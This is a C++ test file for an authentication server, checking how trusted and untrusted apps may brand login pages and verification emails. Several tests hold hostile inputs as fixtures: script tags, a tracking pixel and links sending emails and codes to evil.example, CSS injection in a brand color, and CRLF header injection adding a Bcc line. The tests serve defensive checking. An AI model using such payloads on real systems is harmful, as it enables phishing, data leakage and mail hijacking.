// What apps and the operator may change about pages and mails: epds-flows, sections 5 and 9.
#include <gtest/gtest.h>

#include "dev/world/world.h"

namespace latchkey::dev::world {
namespace {

constexpr const char* k_alice = "alice@example.com";
constexpr const char* k_trusted = "https://app.example/client-metadata.json";
const std::string k_png = std::string("\x89PNG\r\n\x1a\n", 8) + "pixels";

// The files of an app, beside its metadata.
struct Site {
  std::string logo = k_png, mail = "<body><p>{{code}} for {{app_name}}</p><img src=\"{{logo_uri}}\"></body>";
  int asked = 0;
};
Task<web::Response> files_of(Site* site, web::Request request) {
  ++site->asked;
  if (request.path == "/logo.png") {
    web::Response response = web::Response::text(site->logo);
    co_return response.header("content-type", "image/png");
  }
  if (request.path == "/mail.html") co_return web::Response::html(site->mail);
  co_return web::Response::text("", 404);
}
void serve(World& w, const std::string& origin, Site* site) {
  w.network.site(origin, [site](web::Request request) { return files_of(site, std::move(request)); });
}
void wish(World& w, const App& app, std::initializer_list<std::pair<const char*, json::Value>> wishes) {
  json::Object metadata = app.metadata();
  for (const auto& [name, value] : wishes) metadata.set(name, value);
  w.network.document(app.client_id(), metadata);
}
WorldOptions trusting() { return {.trusted_clients = {k_trusted}}; }

// What stands between `before` and the next quotation mark, unescaped.
std::string attribute(const Page& page, const std::string& before) {
  const auto at = page.body.find(before);
  if (at == std::string::npos) return "";
  const auto from = at + before.size();
  std::string out = page.body.substr(from, page.body.find('"', from) - from);
  for (auto amp = out.find("&amp;"); amp != std::string::npos; amp = out.find("&amp;")) out.erase(amp + 1, 4);
  return out;
}

TEST(Branding, ATrustedAppHasItsLogoColorsAndMails) {
  World w(trusting());
  Site site;
  serve(w, "https://app.example", &site);
  App app(w, App::Kind::confidential);
  wish(w, app,
       {{"logo_uri", "https://app.example/logo.png"},
        {"brand_color", "#0055CC"},
        {"background_color", "#eef"},
        {"email_template_uri", "https://app.example/mail.html"},
        {"email_subject_template", "{{#is_new_user}}Welcome! {{/is_new_user}}{{code}} - {{app_name}}"}});
  Browser b(w);
  const Page first = b.get(app.authorize_url(app.start()));
  EXPECT_EQ(attribute(first, "rel=\"stylesheet\" href=\"/brand"), "/colors.css?brand=0055cc&ground=eeeeff");
  const std::string logo = attribute(first, "class=\"app-tile\" src=\"");
  EXPECT_EQ(logo,
            "https://auth.pds.test/brand/logo?client_id=https%3A%2F%2Fapp.example%2Fclient-metadata.json");
  EXPECT_EQ(b.get(logo).body, k_png);
  EXPECT_TRUE(
      b.get(w.options.auth + "/brand/colors.css?brand=0055cc&ground=eeeeff").shows("--brand: #0055cc"));
  EXPECT_EQ(first.header("content-security-policy").find("unsafe-inline"), std::string::npos);
  EXPECT_EQ(first.header("content-security-policy").find("app.example"), std::string::npos)
      << "the browser asks the app's server for nothing";

  const Page asked = walk_to_consent(app, app.start(), b, k_alice);
  EXPECT_TRUE(asked.shows("/brand/logo?client_id="));
  EXPECT_TRUE(asked.shows("/brand/colors.css?"));
  ASSERT_EQ(w.mails().size(), 1u);
  const auto mail = w.mails()[0];
  const std::string code = w.code(k_alice);
  EXPECT_EQ(mail.subject, "Welcome! " + code + " - Example App");
  EXPECT_EQ(mail.from_name, "Example App");
  EXPECT_NE(mail.html.find("<p>" + code +
                           " for Example App</p><img src=\"https://auth.pds.test/brand/logo?client_id="),
            std::string::npos);
  EXPECT_NE(mail.text.find("Example Community"), std::string::npos) << "the text part is ours";
  EXPECT_NE(mail.text.find(code), std::string::npos);
}

TEST(Branding, AttackBranding_AStrangerHasColorsAndNothingElse) {
  World w(trusting());
  Site site;
  serve(w, "https://web.example", &site);
  App app(w, App::Kind::web);
  wish(w, app,
       {{"logo_uri", "https://web.example/logo.png"},
        {"brand_color", "#0055cc"},
        {"email_template_uri", "https://web.example/mail.html"},
        {"email_subject_template", "Your bank: {{code}}"}});
  Browser b(w);
  const Page first = b.get(app.authorize_url(app.start()));
  EXPECT_TRUE(first.shows("/brand/colors.css?brand=0055cc"));
  EXPECT_FALSE(first.shows("/brand/logo"));
  EXPECT_TRUE(first.shows("web.example")) << "its host stands beside its name";
  EXPECT_EQ(b.get(w.options.auth + "/brand/logo?client_id=" + percent_encode(app.client_id())).status, 404);
  walk_to_consent(app, app.start(), b, k_alice);
  ASSERT_EQ(w.mails().size(), 1u);
  EXPECT_EQ(w.mails()[0].subject, w.code(k_alice) + " — Welcome to Example Community");
  EXPECT_EQ(w.mails()[0].from_name, "");
  EXPECT_NE(w.mails()[0].html.find("Sent by Example Community"), std::string::npos);
  EXPECT_EQ(site.asked, 0) << "nobody makes this server fetch";
}

TEST(Branding, AttackTemplate_ScriptAndPixelOfATrustedAppDoNotReachTheMailbox) {
  World w(trusting());
  Site site{
      .mail =
          "<p>{{code}}</p><script>alert(1)</script><img src=\"https://evil.example/pixel.gif?{{email}}\">"
          "<a href=\"https://evil.example/?{{code}}\">x</a><form action=\"https://evil.example/\"></form>"};
  serve(w, "https://app.example", &site);
  App app(w, App::Kind::confidential);
  wish(w, app, {{"email_template_uri", "https://app.example/mail.html"}});
  Browser b(w);
  walk_to_consent(app, app.start(), b, k_alice);
  const std::string html = w.mails()[0].html;
  EXPECT_NE(html.find("<p>" + w.code(k_alice) + "</p>"), std::string::npos);
  for (const char* sign : {"script", "evil.example", "<form", "<img"})
    EXPECT_EQ(html.find(sign), std::string::npos) << sign << "\n" << html;
  EXPECT_EQ(w.mails()[0].subject, w.code(k_alice) + " — Welcome to Example App")
      << "the app's mail, its name";
}

TEST(Branding, AttackTemplate_AServerThatIsDownOrSlowKeepsNobodyOut) {
  World w(trusting());
  Site site;
  serve(w, "https://app.example", &site);
  App app(w, App::Kind::confidential);
  wish(w, app,
       {{"email_template_uri", "https://app.example:8443/mail.html"},
        {"logo_uri", "https://gone.example/logo.png"}});
  Browser b(w);
  EXPECT_EQ(walk_to_consent(app, app.start(), b, k_alice).heading(), "Create Account & Authorize");
  EXPECT_NE(w.mails()[0].html.find("Enter this code"), std::string::npos) << "our own mail";
  EXPECT_EQ(b.get(w.options.auth + "/brand/logo?client_id=" + percent_encode(app.client_id())).status, 404);
  EXPECT_FALSE(b.get(app.authorize_url(app.start())).shows("/brand/logo"))
      << "the initial is shown from now on";
}

TEST(Branding, AttackBrandColor_NoColorNoSheet) {
  World w;
  App app(w, App::Kind::web);
  wish(
      w, app,
      {{"brand_color", "red;}body{background:url(https://evil.example/)"}, {"background_color", "</style>"}});
  Browser b(w);
  const Page first = b.get(app.authorize_url(app.start()));
  EXPECT_EQ(first.status, 200);
  EXPECT_FALSE(first.shows("/brand/"));
  EXPECT_FALSE(first.shows("evil.example"));
}

TEST(Branding, AttackClientName_HtmlInAMailOfATrustedApp) {
  World w(trusting());
  Site site{.mail = "<p title=\"{{app_name}}\">{{code}} {{app_name}}</p>"};
  serve(w, "https://app.example", &site);
  App app(w, App::Kind::confidential, "\"><script>alert(1)</script>\r\nBcc: all@example.com");
  wish(w, app,
       {{"email_template_uri", "https://app.example/mail.html"},
        {"email_subject_template", "{{app_name}}\r\nX: y"}});
  Browser b(w);
  walk_to_consent(app, app.start(), b, k_alice);
  const auto mail = w.mails()[0];
  EXPECT_EQ(mail.html.find("<script"), std::string::npos) << mail.html;
  EXPECT_NE(mail.html.find("&quot;&gt;&lt;script&gt;"), std::string::npos) << mail.html;
  EXPECT_EQ(mail.subject, "\"><script>alert(1)</script> Bcc: all@example.comX: y");
  EXPECT_EQ(mail.from_name.find_first_of("\r\n"), std::string::npos);
}

TEST(Branding, TheOperatorsLooksAreOnEveryPage) {
  World w({.branding = {.name = "Our <Community>",
                        .colors = {.brand = web::Color::parse_hex("#0a5")},
                        .logo_url = "https://cdn.example/logo.svg",
                        .home_url = "https://community.example/",
                        .terms_of_service_url = "https://community.example/terms",
                        .privacy_policy_url = "https://community.example/privacy",
                        .support_url = "https://community.example/help?a=1&b=2"}});
  Browser b(w);
  App app(w);
  for (const Page& page : {b.get(w.options.auth + "/account/login"), b.get(w.options.auth + "/nowhere"),
                           b.get(app.authorize_url(app.start()))}) {
    EXPECT_TRUE(page.shows("/brand/colors.css?brand=00aa55")) << page.url;
    EXPECT_TRUE(page.shows("Our &lt;Community&gt;</span>"));
    EXPECT_TRUE(page.shows("<img class=\"mark\" src=\"https://cdn.example/logo.svg\""));
    EXPECT_NE(page.header("content-security-policy").find("img-src 'self' data: https://cdn.example;"),
              std::string::npos);
    for (const char* link : {"https://community.example/\">Home", "/terms\">Terms of service",
                             "/privacy\">Privacy policy", "/help?a=1&amp;b=2\">Support"})
      EXPECT_TRUE(page.shows(link)) << link;
  }
  walk_to_consent(app, app.start(), b, k_alice);
  EXPECT_NE(w.mails()[0].html.find("href=\"https://community.example/privacy\""), std::string::npos);
  EXPECT_NE(w.mails()[0].text.find("Support: https://community.example/help?a=1&b=2\n"), std::string::npos);
}

TEST(Branding, WithoutAnyPagesKeepTheirLooks) {
  World w;
  Browser b(w);
  App app(w, App::Kind::web);
  const Page page = b.get(app.authorize_url(app.start()));
  EXPECT_FALSE(page.shows("/brand/"));
  EXPECT_FALSE(page.shows("operator-links"));
  EXPECT_TRUE(page.shows("Latchkey</span>"));
  EXPECT_TRUE(page.shows("favicon.svg"));
}

}  // namespace
}  // namespace latchkey::dev::world
